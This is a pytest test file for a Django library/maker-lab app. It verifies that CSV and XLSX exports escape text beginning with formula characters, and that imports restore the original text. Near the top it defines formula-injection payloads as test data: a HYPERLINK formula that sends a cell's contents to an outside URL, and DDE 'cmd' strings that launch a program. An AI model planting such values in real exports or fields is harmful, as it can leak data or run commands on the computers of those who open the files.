"""Every spreadsheet the Maker Lab writes keeps typed text as text: no cell runs as a formula, numbers stay numbers."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.contrib.admin import helpers
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from makerlab.exports import spreadsheet_text, spreadsheet_text_read
from seedlibrary.models import Variety
from stats import services as stats_services
from tests.factories import LotFactory, ProgramFactory, ServiceTypeFactory, VarietyFactory, at, make_booking
from tests.factories import registration_for as _register

# The four formula starts OWASP names, each as a hostile value staff or a patron could type.
HOSTILE = {
    "=": '=HYPERLINK("http://example.org/?x="&C3,"Full details")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MARCH = dt.date(2026, 3, 1)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _csv_cells(text: str) -> list[str]:
    return [cell for row in _csv_rows(text) for cell in row]


def _assert_csv_neutralised(text: str, value: str) -> None:
    cells = _csv_cells(text)
    assert "'" + value in cells, f"{value!r} is not written as text: {cells}"
    assert value not in cells


def _assert_xlsx_text(content: bytes, value: str) -> None:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]
    found = [cell for cell in cells if str(cell.value).lstrip("'").lower() == value.lower()]
    assert found, f"{value!r} is missing from the workbook"
    for cell in found:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_comes_back_on_import(prefix):
    value = prefix + "1+1"
    assert spreadsheet_text(value) == "'" + value
    assert spreadsheet_text_read(spreadsheet_text(value)) == value
    assert spreadsheet_text("Set up email") == "Set up email"
    assert spreadsheet_text_read("'tis the season") == "'tis the season"


@pytest.fixture
def closed_march(db, settings):
    """March with each hostile outcome topic on three attended bookings, so the report names it."""
    settings.BOARD_REPORT_EMAILS = []
    service = ServiceTypeFactory(name="Tech help: phone, tablet, laptop")
    day = 2
    for value in HOSTILE.values():
        for _ in range(3):
            make_booking(
                service_type=service, starts_at=at(dt.date(2026, 3, day), 10), status="attended", outcome_topic=value
            )
            day += 1
    return stats_services.month_close(month=MARCH, now=at(dt.date(2026, 4, 2), 9))


def test_the_monthly_report_xlsx_keeps_typed_topics_as_text_and_numbers_as_numbers(client, coordinator, closed_march):
    client.force_login(coordinator)
    content = client.get(reverse("stats_reports:xlsx", args=["2026-03"])).content
    for value in HOSTILE.values():
        _assert_xlsx_text(content, value[:1].upper() + value[1:].lower())
    sheet = load_workbook(io.BytesIO(content))["1-on-1 help"]
    attended = next(row for row in sheet.iter_rows() if row[0].value == "Sessions attended")
    assert attended[2].value == 12 and attended[2].data_type == "n"


def test_the_monthly_report_csv_and_its_zip_write_typed_topics_as_text(client, coordinator, closed_march):
    client.force_login(coordinator)
    single = client.get(reverse("stats_reports:csv", args=["2026-03"]) + "?area=bookings").content.decode()
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("stats_reports:csv_zip", args=["2026-03"])).content))
    zipped = archive.read("report-2026-03-bookings.csv").decode()
    for text in (single, zipped):
        for value in HOSTILE.values():
            _assert_csv_neutralised(text, value[:1].upper() + value[1:].lower())
        attended = next(row for row in _csv_rows(text) if row[:1] == ["Sessions attended"])
        assert attended[2] == "12"


def test_the_bookings_admin_csv_writes_outcome_topics_as_text(client, coordinator, branch):
    service = ServiceTypeFactory(branch=branch)
    bookings = [
        make_booking(
            service_type=service, starts_at=at(dt.date(2026, 3, 2 + index), 10), status="attended", outcome_topic=value
        )
        for index, value in enumerate(HOSTILE.values())
    ]
    client.force_login(coordinator)
    response = client.post(
        "/admin/bookings/booking/?when=past", {"action": "export_csv", "_selected_action": [b.pk for b in bookings]}
    )
    body = b"".join(response.streaming_content).decode()
    for value in HOSTILE.values():
        _assert_csv_neutralised(body, value)
    assert _csv_rows(body)[1][0] == str(bookings[0].pk)


def test_the_roster_csv_writes_titles_names_and_notes_as_text(client, coordinator):
    registrations = [
        _register(ProgramFactory(title=value), name=value, accommodations=value) for value in HOSTILE.values()
    ]
    client.force_login(coordinator)
    response = client.post(
        "/admin/programs/registration/",
        {"action": "export_csv", helpers.ACTION_CHECKBOX_NAME: [r.pk for r in registrations]},
    )
    body = b"".join(response.streaming_content).decode()
    for value in HOSTILE.values():
        _assert_csv_neutralised(body, value)


def _export(client, name: str, file_format: str) -> bytes:
    form = client.get(reverse(f"admin:seedlibrary_{name}_export")).context["form"]
    choice = next(str(v) for v, label in form.fields["format"].choices if str(label).lower() == file_format)
    fields = {field: "on" for field in form.fields if field.startswith(name)}
    response = client.post(reverse(f"admin:seedlibrary_{name}_export"), {"format": choice, **fields})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_seed_catalogue_and_lot_exports_write_notes_as_text(client, coordinator, file_format):
    for index, value in enumerate(HOSTILE.values()):
        variety = VarietyFactory(growing_notes=value, slug=f"-tomato-{index}")
        LotFactory(variety=variety)
    client.force_login(coordinator)
    varieties, lots = _export(client, "variety", file_format), _export(client, "lot", file_format)
    if file_format == "csv":
        for value in HOSTILE.values():
            _assert_csv_neutralised(varieties.decode(), value)
        _assert_csv_neutralised(lots.decode(), "-tomato-0")
    else:
        for value in HOSTILE.values():
            _assert_xlsx_text(varieties, value)
        _assert_xlsx_text(lots, "-tomato-0")
        sheet = load_workbook(io.BytesIO(varieties)).active
        header = [cell.value for cell in sheet[1]]
        days = sheet.cell(row=2, column=header.index("days_to_maturity") + 1)
        assert days.data_type == "n"


def test_an_exported_catalogue_imports_back_without_the_apostrophes(client, coordinator):
    VarietyFactory(slug="tomato-a", growing_notes="-Pinch suckers weekly.", saving_notes="+Ferment the seeds.")
    client.force_login(coordinator)
    exported = _export(client, "variety", "csv")
    assert b"'-Pinch suckers weekly." in exported
    Variety.objects.update(growing_notes="changed", saving_notes="changed")
    form = client.get(reverse("admin:seedlibrary_variety_import")).context["form"]
    choice = next(str(v) for v, label in form.fields["format"].choices if str(label).lower() == "csv")
    upload = SimpleUploadedFile("varieties.csv", exported, content_type="text/csv")
    preview = client.post(reverse("admin:seedlibrary_variety_import"), {"import_file": upload, "format": choice})
    assert not preview.context["result"].has_errors() and not preview.context["result"].has_validation_errors()
    client.post(reverse("admin:seedlibrary_variety_process_import"), preview.context["confirm_form"].initial)
    variety = Variety.objects.get(slug="tomato-a")
    assert (variety.growing_notes, variety.saving_notes) == ("-Pinch suckers weekly.", "+Ferment the seeds.")
